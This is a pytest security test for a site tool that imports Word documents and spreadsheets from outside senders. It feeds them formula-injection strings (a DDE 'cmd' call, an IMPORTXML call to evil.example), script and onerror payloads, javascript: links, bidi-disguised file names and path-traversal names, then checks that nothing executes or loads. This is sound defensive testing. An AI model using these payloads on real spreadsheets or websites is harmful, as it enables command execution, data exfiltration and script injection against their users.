"""What strangers send as documents and workbooks: taken over and published, it never runs, loads or starts a formula.

A document of Word and a form hold hostile words in every place that an importer takes; lines that the checks refuse are taken
out, and the rest is built with pictures to share, links to videos and files of evidence under odd names.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import unicodedata
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path

import pytest
from hostile_content import FORMULAS, MARKUP, PAYLOADS
from program import PROGRAM, PROJECT
from lxml import etree
from playwright.sync_api import Browser
from test_untrusted_authors import RAW, SCHEMES, Attempts

PICTURE = PROJECT / "content/models/xe-ho-tro-luu-dong/xe-ho-tro-tren-duong-doi.png"
STORY = "content/news/thu/vi.md"
# What turns text round, hides in it or ends a line of some programs; a cell may hold it, a page may not be led astray by it.
UNSEEN = ["\u202egnp.exe", "\u2066\u202e\u2069a", "\u200f=1+1", "\u2028<script>hit()</script>", "\ufeff=1+1", "\u00a0=1+1", "\u200b=1+1", "\t=1+1", "\r=1+1", "\n=1+1"]
WORDS = [*FORMULAS, *UNSEEN, *PAYLOADS, "'=1+1", "=cmd|' /C x-hit'!A0;", '=IMPORTXML("http://evil.example/x-hit","//a")']
NUMBER = re.compile(r"[-+]?\d[\d.]*")
TURNING = re.compile("[\u202a-\u202e\u2066-\u2069]")
# Signs that XML can't hold.
IMPOSSIBLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


@dataclass
class Office:
    folder: Path

    def run(self, *words: str | Path, code: int = 0, **variables: str) -> str:
        run = subprocess.run(
            [PROGRAM, *words, "--language", "en"], cwd=self.folder, capture_output=True, text=True, env={**os.environ, **variables}
        )
        assert run.returncode == code, run.stdout[-3000:] + run.stderr
        return run.stdout

    def errors(self) -> list[tuple[str, int, str]]:
        command = ["check", "--templates", PROJECT / "site-templates", "--diagnostics", "json", "--quiet"]
        run = subprocess.run([PROGRAM, *command], cwd=self.folder, capture_output=True, text=True)
        assert run.returncode in (0, 1), run.stderr
        found = [json.loads(line) for line in run.stdout.splitlines()]
        return [(item["file"], item.get("line") or 1, item["identifier"]) for item in found if item.get("severity") == "error"]

    def take_out(self) -> set[str]:
        """Takes out the lines that are refused, until nothing is; gives the names of what was refused."""
        names: set[str] = set()
        for _ in range(8):
            errors = self.errors()
            if not errors:
                return names
            names |= {name for _, _, name in errors}
            for file in {file for file, _, _ in errors}:
                lines = (self.folder / file).read_text(encoding="utf-8").split("\n")
                refused = {line - 1 for of, line, _ in errors if of == file}
                if any(of == file and name == "unbalanced-direction" for of, _, name in errors):
                    # Only the first of a file is told.
                    refused |= {number for number, line in enumerate(lines) if TURNING.search(line)}
                for number in refused:
                    lines[number] = ""
                (self.folder / file).write_text("\n".join(lines), encoding="utf-8")
        raise AssertionError(errors)


def document(path: Path) -> None:
    from docx import Document
    from docx.opc.constants import RELATIONSHIP_TYPE
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn

    made = Document()
    made.add_heading(f"Tin thử {MARKUP} =1+1", 0)

    def link(address: str, words: str) -> None:
        paragraph = made.add_paragraph("Liên kết ")
        element = OxmlElement("w:hyperlink")
        target = made.part.relate_to(IMPOSSIBLE.sub("", address), RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
        element.set(qn("r:id"), target)
        element.append(paragraph.add_run(words)._r)
        paragraph._p.append(element)

    for raw in [*RAW, *WORDS]:
        made.add_paragraph(IMPOSSIBLE.sub("", raw))
        made.add_paragraph("Đoạn: " + IMPOSSIBLE.sub("", raw))
    for scheme in SCHEMES:
        link(scheme, "đọc tiếp ở trang này")
        link(f"https://ok.example/{scheme}> ) \">", "](javascript:hit()) [đọc tiếp")
    made.add_heading("<script>hit()</script>", 2)
    cells = made.add_table(len(WORDS), 2)
    for number, words in enumerate(WORDS):
        cells.cell(number, 0).text = IMPOSSIBLE.sub("", words)
        cells.cell(number, 1).text = f"| {IMPOSSIBLE.sub('', RAW[number])} |"
    picture = made.add_picture(str(PICTURE))
    picture._inline.docPr.set("descr", "\"> <img src=x onerror=hit()> ](javascript:hit()) ![x](//evil.example/x.png)")
    made.core_properties.title = "</title><script>hit()</script>"
    made.save(path)


def form(path: Path, words: list[str]) -> None:
    """Fills in the list of evidence, ten lines a form, and the task where there is one; all texts are typed as texts."""
    from openpyxl import load_workbook

    book = load_workbook(path)
    for number, title in enumerate(words):
        row = 5 + number
        for column, value in [("B", title), ("C", "Báo cáo"), ("D", WORDS[-1 - number]), ("F", "Đơn vị giữ")]:
            cell = book["Minh chứng"][f"{column}{row}"]
            cell.value = IMPOSSIBLE.sub(" ", value)
            cell.data_type = "s"
    figures, tasks = book["Số liệu"], book["Nhiệm vụ"]
    if figures["A5"].value:
        figures["C2"] = datetime(2025, 11, 1)
    if tasks["A5"].value:
        tasks["F5"], tasks["G5"], tasks["H5"] = datetime(2025, 11, 1), "Đang làm", FORMULAS[0]
        tasks["H5"].data_type = "s"
    book.save(path)


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Office:
    folder = tmp_path_factory.mktemp("sent")
    subprocess.run([PROGRAM, "new", "site", folder / "content", "--province", "Nhỏ", "--code", "68"], cwd=PROJECT, check=True, capture_output=True)
    office = Office(folder)
    document(folder / "tin.docx")
    office.run("import", "tin.docx", "--as", "news/thu", "--yes")
    story = folder / STORY
    text = story.read_text(encoding="utf-8").replace("\nsummary: \n", f'\nsummary: "Tin {FORMULAS[0][:1]} {MARKUP}"\n').replace("\ndraft: true\n", "\n")
    videos = [*SCHEMES, 'https://video.example/x" onclick="hit()', "https://video.example/<x-hit>", "https://video.example/\u202ehit"]
    shutil.copy(PICTURE, folder / "content/news/thu/phim.png")
    for number, address in enumerate(videos):
        words = PAYLOADS[number % len(PAYLOADS)].replace("[", "").replace("]", "")
        text += f'\n[![Xem phim: {words}](phim.png "{words.replace(chr(34), chr(39))}")](<{address}>)\n'
    story.write_text(text, encoding="utf-8")
    office.run("form", "--period", "2025", "--all")
    forms = sorted((folder / "forms").iterdir())
    for number, path in enumerate(forms):
        form(path, WORDS[10 * number : 10 * number + 10])
    office.run("import", *forms, "--yes")
    return office


@pytest.fixture(scope="module")
def root(office: Office) -> Path:
    # Names that would leave an attribute, an address or a line; those that lead out or run are refused.
    evidence = office.folder / "content/data/evidence"
    evidence.mkdir()
    table = office.folder / "content/data/evidence.csv"
    names = ["a' onclick='hit().csv", 'a" onclick="hit().csv', "<x-hit>.csv", "javascript:hit().csv", "=1+1.csv", "a#b?c.csv", "a%00.csv", "fdp\u202evsc.csv", "a.html", "a.svg", "../site.yaml", "a.csv/../../site.yaml"]
    rows = io.StringIO()
    for number, name in enumerate(names):
        file = evidence / name
        if file.parent == evidence:
            file.write_text("a,b\n1,2\n")
        csv.writer(rows, lineterminator="\n").writerow([f"F{number:02}", "Tệp", "report", "Cơ quan ví dụ", "", "public", "", "", f"evidence/{name}", ""])
    with table.open("a", encoding="utf-8") as text:
        text.write(rows.getvalue())
    refused = office.take_out()
    assert {"unsafe-address", "unknown-link-scheme", "broken-link", "evidence-type", "malformed-evidence-path", "unbalanced-direction"} <= refused, refused
    # What is drawn is looked at on its way to the program that draws it.
    tools = office.folder / "tools"
    tools.mkdir()
    (tools / "vips").write_text(f'#!/bin/sh\nif [ "$2" = cards.svg ]; then cat cards.svg >>"{office.folder}/drawn.svg"; fi\nexec "{shutil.which("vips")}" "$@"\n')
    (tools / "vips").chmod(0o755)
    office.run("build", "--templates", PROJECT / "site-templates", "--quiet", "--share-pictures", PATH=f"{tools}:{os.environ['PATH']}")
    return office.folder / "public"


def test_pictures_to_share_are_drawn_from_words_alone(root: Path) -> None:
    drawn = (root.parent / "drawn.svg").read_text(encoding="utf-8")
    assert "x-hit" in drawn
    for card in re.findall(r"<svg .*?</svg>", drawn, re.S):
        elements = list(etree.fromstring(card.encode()).iter(etree.Element))
        assert {etree.QName(element).localname for element in elements} <= {"svg", "g", "rect", "text"}
        for element in elements:
            assert not [name for name in element.attrib if name.startswith("on") or "href" in name or name == "style"]


def test_no_cell_of_what_was_taken_over_is_a_formula(root: Path) -> None:
    evidence = (root.parent / "content/data/evidence.csv").read_text(encoding="utf-8")
    assert "HYPERLINK" in evidence
    kept = 0
    for path in root.rglob("*.csv"):
        if path.is_relative_to(root / "data/evidence"):
            continue
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""), strict=True):
            for cell in row:
                kept += "x-hit" in cell or "1+1" in cell
                # What no reader sees comes before the sign; other separators begin a cell in the middle of another.
                for part in re.split("[;\t\n\r]", cell):
                    seen = part.lstrip("".join(sign for sign in part if unicodedata.category(sign) in ("Cf", "Cc")))
                    assert not seen.startswith(("=", "+", "-", "@")) or NUMBER.fullmatch(seen), (path, cell)
    assert kept > 25


def test_names_of_evidence_lead_to_the_file_and_nowhere_else(root: Path) -> None:
    published = {str(path.relative_to(root)) for path in root.rglob("*") if path.is_file()}
    assert not [path for path in published if path.endswith(("site.yaml", "/a.html", "/a.svg"))]
    for path in published:
        assert not any(unicodedata.category(sign) in ("Cc", "Cf", "Zl", "Zp") for sign in path), path


@pytest.mark.parametrize("policy", [True, False], ids=["policy", "no-policy"])
def test_nothing_that_was_sent_runs_or_loads(root: Path, browser: Browser, policy: bool) -> None:
    hostile = [path for path in root.rglob("*.html") if re.search(rb"hit\(\)|x-hit|evil\.example", path.read_bytes())]
    assert root / "tin-tuc/thu/index.html" in hostile and len(hostile) > 6
    # The policy makes it easier; without it a page below each folder is opened.
    chosen = {} if policy else {path.relative_to(root).parts[:1]: path for path in sorted(hostile)}
    attempts = Attempts(root, browser, policy)
    for path in [root / "tin-tuc/thu/index.html", *chosen.values()]:
        attempts.open(str(path.relative_to(root)))
    attempts.close()
    assert attempts.hits == []
    assert attempts.foreign == []
